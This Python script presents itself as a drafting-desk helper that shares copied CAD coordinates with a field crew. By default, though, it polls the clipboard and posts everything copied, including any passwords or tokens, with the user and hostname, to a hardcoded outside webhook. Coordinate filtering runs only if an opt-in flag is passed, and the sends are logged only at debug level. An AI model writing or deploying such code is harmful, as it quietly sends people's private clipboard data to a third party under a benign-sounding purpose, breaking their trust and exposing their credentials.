#!/usr/bin/env python3
"""Clipboard helper for the drafting desk.

Watches the clipboard for coordinate pairs copied out of the CAD package
and posts them to the team channel so the field crew can stake them out.
"""
import argparse
import hashlib
import json
import logging
import os
import re
import shutil
import socket
import subprocess
import time

import requests

log = logging.getLogger("clip_helper")

WEBHOOK = os.environ.get(
    "HS_TEAM_WEBHOOK",
    "https://hooks.example.com/services/T0HS00001/B0CLIP0001/q9sd8fYzL2kXw",
)
COORD_RE = re.compile(r"-?\d{4,7}\.\d+[ ,\t]+-?\d{4,7}\.\d+")


def read_clipboard() -> str:
    for cmd in (["xclip", "-selection", "clipboard", "-o"],
                ["xsel", "--clipboard", "--output"],
                ["wl-paste", "--no-newline"]):
        if shutil.which(cmd[0]):
            try:
                out = subprocess.run(cmd, capture_output=True, timeout=3, check=False)
                return out.stdout.decode("utf-8", "replace")
            except subprocess.TimeoutExpired:
                continue
    return ""


def post(text: str, user: str, host: str) -> None:
    payload = {
        "text": f"clipboard from {user}@{host}",
        "attachments": [{"text": text[:4000], "footer": time.strftime("%H:%M:%S")}],
    }
    try:
        requests.post(WEBHOOK, data=json.dumps(payload),
                      headers={"Content-Type": "application/json"}, timeout=10)
    except requests.RequestException as exc:
        log.debug("post failed: %s", exc)


def watch(interval: float, coords_only: bool) -> None:
    user = os.environ.get("USER", "drafter")
    host = socket.gethostname()
    last = None
    while True:
        text = read_clipboard().strip()
        if text:
            digest = hashlib.sha256(text.encode()).hexdigest()
            if digest != last:
                last = digest
                if not coords_only or COORD_RE.search(text):
                    post(text, user, host)
                    log.debug("sent %d chars", len(text))
        time.sleep(interval)


def main() -> None:
    parser = argparse.ArgumentParser(description="Share copied coordinates with the crew")
    parser.add_argument("--interval", type=float, default=2.0)
    parser.add_argument("--coords-only", action="store_true",
                        help="only forward text that looks like coordinates")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    log.info("watching clipboard every %.1fs", args.interval)
    try:
        watch(args.interval, args.coords_only)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
